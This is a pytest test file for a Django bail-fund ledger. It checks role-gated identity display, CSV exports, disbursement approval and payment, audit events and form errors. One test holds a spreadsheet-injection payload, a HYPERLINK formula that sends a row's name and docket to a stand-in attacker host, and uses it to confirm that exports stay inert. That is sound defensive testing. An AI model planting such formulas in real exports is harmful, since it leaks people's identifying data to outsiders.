"""The staff pages for cases and disbursements: the whole life of a bail
payment through the forms, role-gated identifying columns on screen and in CSV, and clear
errors that change nothing."""

import csv
import datetime as dt
import io
import logging
import re

import pytest
from django.urls import reverse

from ledger.books.selectors import account_balances
from ledger.books.verification import verify_ledger
from ledger.casework.cases import Identity
from ledger.casework.disbursements import disbursement_approve, disbursement_pay
from ledger.models import AuditEvent, BailCase, Disbursement, JournalTransaction
from tests.ledger.casework.conftest import CLUES, PERSON, STAFF_LISTS
from tests.ledger.conftest import deposit, open_case, record_return, request_disbursement

pytestmark = pytest.mark.django_db


@pytest.fixture
def case(staff_user, field_keys):
    return open_case(staff_user("case_manager"), PERSON, court="Fourth District")


def _token(client, url, prefix: str = "") -> str:
    page = client.get(url).content.decode()
    name = f"{prefix}-token" if prefix else "token"
    return re.search(rf'name="{name}" value="([0-9a-f]+)"', page).group(1)


def _csv(response) -> list[dict]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode())))


def _request_on_page(client, case, **fields):
    """Post the case page's request form, with its one-time token, as ``client``."""
    case_url = reverse("casework:case", args=[case.public_id])
    form = {
        "token": _token(client, case_url),
        "purpose": "bail",
        "payee_kind": "court",
        "payee_name": "Hennepin County District Court",
    }
    url = reverse("casework:disbursement_new", args=[case.public_id])
    return client.post(url, form | fields)


def _money_in_bank(client, amount: str) -> None:
    url = reverse("donations:staff_gift_new")
    response = client.post(
        url,
        {
            "token": _token(client, url),
            "method": "check",
            "amount": amount,
            "received_on": "2026-03-01",
            "reference": "1001",
        },
    )
    assert response.status_code == 302, response.content.decode()


def test_a_case_manager_opens_a_case_and_only_ciphertext_is_stored(staff_client, field_keys):
    client = staff_client("case_manager")

    response = client.post(
        reverse("casework:case_new"),
        {
            "county": "Ramsey",
            "bail_type": "immigration_bond",
            "opened_on": "2026-03-01",
            "name": PERSON.name,
            "docket_number": PERSON.docket_number,
            "date_of_birth": PERSON.date_of_birth,
        },
    )

    case = BailCase.objects.get()
    assert response.status_code == 302 and response.url.endswith(f"{case.public_id}/")
    assert PERSON.name not in case.identity_ciphertext
    page = client.get(response.url).content.decode()
    assert PERSON.name in page and PERSON.docket_number in page


def test_identifying_data_is_shown_only_to_roles_allowed_to_see_it(staff_client, case):
    url = reverse("casework:case", args=[case.public_id])

    allowed = staff_client("case_manager").get(url).content.decode()
    assert PERSON.name in allowed and PERSON.booking_number in allowed

    for role in ("viewer", "bookkeeper", "approver"):
        page = staff_client(role).get(url).content.decode()
        assert "Hennepin" in page
        for secret in CLUES:
            assert secret not in page, (role, secret)


def test_case_exports_carry_identifying_columns_only_for_allowed_roles(staff_client, case):
    url = reverse("casework:cases") + "?_export=csv"

    rows = _csv(staff_client("case_manager").get(url))
    assert rows[0]["Name"] == PERSON.name and rows[0]["Docket"] == PERSON.docket_number

    response = staff_client("viewer").get(url)
    rows = _csv(response)
    assert "Name" not in rows[0] and "Docket" not in rows[0]
    assert rows[0]["County"] == "Hennepin"
    text = repr(rows)
    assert not any(secret in text for secret in CLUES)


def test_cases_are_found_by_exact_docket_number(staff_client, case, field_keys, staff_user):
    someone_else = Identity(name="Someone Else", docket_number="CR-2026-000001")
    manager = staff_user("case_manager")
    open_case(manager, someone_else, county="Dakota", opened_on=dt.date(2026, 3, 2))
    client = staff_client("case_manager")
    url = reverse("casework:cases")

    found = client.get(url, {"docket": f"  {PERSON.docket_number} "}).content.decode()
    assert PERSON.name in found and "Someone Else" not in found
    partial = client.get(url, {"docket": "CR-2026"}).content.decode()
    assert PERSON.name not in partial and "Someone Else" not in partial

    # Roles that may not see identities get no docket search: the parameter is ignored.
    viewer_page = staff_client("viewer").get(url, {"docket": PERSON.docket_number})
    assert 'name="docket"' not in viewer_page.content.decode()


def test_the_life_of_a_bail_payment_through_the_pages(staff_client, case, staff_user):
    case_manager = staff_client("case_manager")
    approver = staff_client("approver")
    bookkeeper = staff_client("bookkeeper")
    _money_in_bank(bookkeeper, "2,000.00")

    response = _request_on_page(case_manager, case, amount="1500", method="cashiers_check")
    d = Disbursement.objects.get()
    assert response.status_code == 302 and d.status == "requested" and d.amount == 150_000

    queue = approver.get(reverse("casework:queue")).content.decode()
    assert "$2,000.00" in queue and f'href="/staff/disbursements/{d.pk}/"' in queue

    assert (
        approver.post(reverse("casework:approve", args=[d.pk]), {"confirm": "yes"}).status_code
        == 302
    )
    assert (
        approver.post(
            reverse("casework:pay", args=[d.pk]),
            {
                "pay-paid_on": "2026-03-03",
                "pay-instrument_reference": "CC-4471",
                "pay-confirm": "on",
            },
        ).status_code
        == 302
    )
    outstanding = bookkeeper.get(reverse("casework:outstanding")).content.decode()
    assert "$1,500.00" in outstanding and "days" in outstanding

    d_url = reverse("casework:disbursement", args=[d.pk])
    response = bookkeeper.post(
        reverse("casework:return", args=[d.pk]),
        {
            "return-token": _token(bookkeeper, d_url, "return"),
            "return-occurred_on": "2026-05-20",
            "return-returned_amount": "1,450.00",
            "return-court_fees": "50",
        },
    )
    assert response.status_code == 302

    d.refresh_from_db()
    assert d.status == "returned" and d.instrument_reference == "CC-4471"
    balances = account_balances()
    assert balances["assets:bank"] == 200_000 - 150_000 + 145_000
    assert balances["expenses:court_fees"] == 5_000
    assert balances["assets:bail_outstanding"] == 0
    returns = _csv(bookkeeper.get(reverse("casework:returns") + "?_export=csv"))
    assert returns[0]["Returned (USD)"] == "1450.00" and returns[0]["Court fees (USD)"] == "50.00"
    history = bookkeeper.get(
        reverse("casework:audit"), {"object_type": "disbursement", "object_id": str(d.pk)}
    ).content.decode()
    for step in ("requested", "approved", "paid", "returned"):
        assert f"→ {step}" in history
    assert verify_ledger().ok


def test_a_requester_who_is_also_an_approver_is_told_to_find_a_second_person(
    staff_client, case, staff_user
):
    both = staff_client(user=staff_user("case_manager", "approver"))
    _money_in_bank(staff_client("bookkeeper"), "100")
    _request_on_page(
        both, case, purpose="support", amount="40", payee_kind="immigration_office", method="online"
    )
    d = Disbursement.objects.get()

    page = both.get(reverse("casework:disbursement", args=[d.pk])).content.decode()
    assert 'id="approve"' not in page  # no button that can only fail
    assert "You requested this disbursement: someone else must approve it." in page
    response = both.post(reverse("casework:approve", args=[d.pk]), {"confirm": "yes"})

    assert response.status_code == 400
    assert "Someone other than the requester" in response.content.decode()
    d.refresh_from_db()
    assert d.status == "requested"


@pytest.mark.parametrize(
    ("amount", "error"),
    [
        ("abc", "Enter an amount"),
        ("0", "greater than zero"),
        ("12.345", "at most 2 decimals"),
        ("-5", "Enter an amount"),
    ],
)
def test_bad_amounts_get_a_form_error_and_change_nothing(staff_client, case, amount, error):
    response = _request_on_page(staff_client("case_manager"), case, amount=amount, method="check")

    assert response.status_code == 400 and error in response.content.decode()
    assert Disbursement.objects.count() == 0


def test_paying_beyond_available_funds_is_a_clear_error(staff_client, case, staff_user):
    manager = staff_user("case_manager")
    d = request_disbursement(manager, case, 10_000, payee_kind="jail", method="cash", token="t-1")
    response = staff_client("approver").post(
        reverse("casework:approve", args=[d.pk]), {"confirm": "yes"}
    )

    assert response.status_code == 400
    assert "Available funds ($0.00) do not cover" in response.content.decode()
    assert JournalTransaction.objects.count() == 0


def test_seeded_identities_stay_out_of_logs_memos_and_public_pages(
    staff_client, case, caplog, client
):
    caplog.set_level(logging.DEBUG)
    bookkeeper = staff_client("bookkeeper")
    _money_in_bank(bookkeeper, "900")
    manager = staff_client("case_manager")
    _request_on_page(manager, case, amount="500", method="check")
    d = Disbursement.objects.get()
    approver = staff_client("approver")
    approver.post(reverse("casework:approve", args=[d.pk]), {"confirm": "yes"})
    approver.post(
        reverse("casework:pay", args=[d.pk]), {"pay-paid_on": "2026-03-04", "pay-confirm": "on"}
    )

    logged = caplog.text
    books = repr(list(JournalTransaction.objects.values_list("memo", "source_ref")))
    audit = repr(list(AuditEvent.objects.values_list("details", flat=True)))
    public_pages = (
        "/",
        "/donate/",
        "/transparency/",
        "/transparency.json",
        "/transparency/monthly.csv",
        "/transparency/checkpoints.json",
    )
    responses = [client.get(path) for path in public_pages]
    assert [r.status_code for r in responses] == [200] * len(public_pages)
    public = "".join(r.content.decode() for r in responses)
    for secret in CLUES:
        assert secret not in logged
        assert secret not in books
        assert secret not in audit
        assert secret not in public


@pytest.mark.parametrize("name", STAFF_LISTS)
def test_no_export_leaks_identities_to_roles_without_view_identity(
    staff_client, case, staff_user, name
):
    deposit(3_000)
    requester, approver = staff_user("case_manager"), staff_user("approver")
    made = [request_disbursement(requester, case, 1_000, token=f"t{n}") for n in range(3)]
    for d in made[:2]:
        disbursement_approve(actor=approver, disbursement=d)
    disbursement_pay(actor=approver, disbursement=made[0], paid_on=dt.date(2026, 3, 2))
    record_return(staff_user("bookkeeper"), made[0], 400, on=dt.date(2026, 3, 9), token="r")
    url = reverse(name) + "?_export=csv"

    for role in ("viewer", "bookkeeper", "approver"):
        text = repr(_csv(staff_client(role).get(url)))
        assert not any(secret in text for secret in CLUES), (role, name)
    shown = repr(_csv(staff_client("case_manager").get(url)))
    if name != "casework:audit":
        assert PERSON.name in shown


def test_a_shown_identity_and_an_export_are_audited_and_a_list_on_screen_is_not(staff_client, case):
    manager = staff_client("case_manager")
    manager.get(reverse("casework:case", args=[case.public_id]))
    manager.get(reverse("casework:cases"))
    manager.get(reverse("casework:cases") + "?_export=csv")
    staff_client("viewer").get(reverse("casework:case", args=[case.public_id]))

    viewed = AuditEvent.objects.filter(action="case.identity_viewed")
    assert [(e.actor, e.object_id) for e in viewed] == [(manager.user, str(case.public_id))]
    exported = AuditEvent.objects.filter(action="case_rows.exported")
    assert [(e.actor, e.object_id, e.details["rows"]) for e in exported] == [
        (manager.user, "cases", 1)
    ]
    assert not AuditEvent.objects.filter(action="case.identities_listed").exists()


HYPERLINK = '=HYPERLINK("https://evil.example/x?"&B2&C2,"open")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_typed_by_staff_is_inert_in_every_export(
    staff_client, staff_user, field_keys, start
):
    # A court field that, opened in a spreadsheet, would send the row's name and docket
    # to an outside site in one click (https://owasp.org/www-community/attacks/CSV_Injection).
    manager = staff_user("case_manager")
    court = start + HYPERLINK[1:]
    someone = Identity(name="Someone Else", docket_number="CR-2026-000002")
    open_case(manager, someone, court=court)
    client = staff_client("case_manager")

    for name in STAFF_LISTS:
        body = client.get(reverse(name) + "?_export=csv")
        text = (b"".join(body.streaming_content) if body.streaming else body.content).decode()
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                assert not cell.startswith("-") or re.fullmatch(r"-\$?[\d,.]+", cell)
    (row,) = [r for r in _csv(client.get(reverse("casework:cases") + "?_export=csv"))
              if r["Name"] == "Someone Else"]  # fmt: skip
    # Shown as typed, never run (a leading tab or return is trimmed when the case is saved).
    assert row["Court"] == ("'" + court if court == court.strip() else court.strip())


def test_the_request_form_saves_no_payee_or_method_nobody_chose(staff_client, case):
    manager = staff_client("case_manager")
    page = manager.get(reverse("casework:case", args=[case.public_id])).content.decode()
    assert '<option value="" selected>Choose…</option>' in page

    response = _request_on_page(manager, case, amount="40", payee_kind="", method="")

    assert response.status_code == 400
    assert not Disbursement.objects.exists()


@pytest.mark.parametrize("payee_name", ["", "   ", "x" * 121])
def test_the_request_form_needs_the_name_of_who_is_paid(staff_client, case, payee_name):
    manager = staff_client("case_manager")
    page = manager.get(reverse("casework:case", args=[case.public_id])).content.decode()
    assert '<label for="id_payee_name">Paid to (name):</label>' in page

    response = _request_on_page(manager, case, amount="40", method="check", payee_name=payee_name)

    assert response.status_code == 400
    assert not Disbursement.objects.exists()


def test_the_payee_name_shows_only_to_roles_that_see_a_cases_details(staff_client, case):
    _request_on_page(
        staff_client("case_manager"),
        case,
        amount="40",
        method="check",
        payee_name="  Cook County Circuit Court Clerk ",
    )
    d = Disbursement.objects.get()
    assert d.payee_name == "Cook County Circuit Court Clerk"
    url = reverse("casework:disbursement", args=[d.pk])

    approver = staff_client("approver").get(url).content.decode()
    viewer = staff_client("viewer").get(url).content.decode()

    assert '<dd id="paid-to">Cook County Circuit Court Clerk (court), by check</dd>' in approver
    assert '<dd id="paid-to">Court, by check</dd>' in viewer and "Cook County" not in viewer
    requested = AuditEvent.objects.get(action="disbursement.requested")
    assert "Cook" not in repr(requested.details)


def test_approving_without_ticking_the_confirmation_does_nothing(staff_client, case, staff_user):
    _money_in_bank(staff_client("bookkeeper"), "100")
    _request_on_page(staff_client("case_manager"), case, amount="40", method="check")
    d = Disbursement.objects.get()
    approver = staff_client("approver")

    page = approver.get(reverse("casework:disbursement", args=[d.pk])).content.decode()
    assert "Approve $40.00: it is set aside from available funds" in page
    response = approver.post(reverse("casework:approve", args=[d.pk]))

    assert response.status_code == 400
    assert "Tick the confirmation first: nothing was done." in response.content.decode()
    d.refresh_from_db()
    assert d.status == "requested"
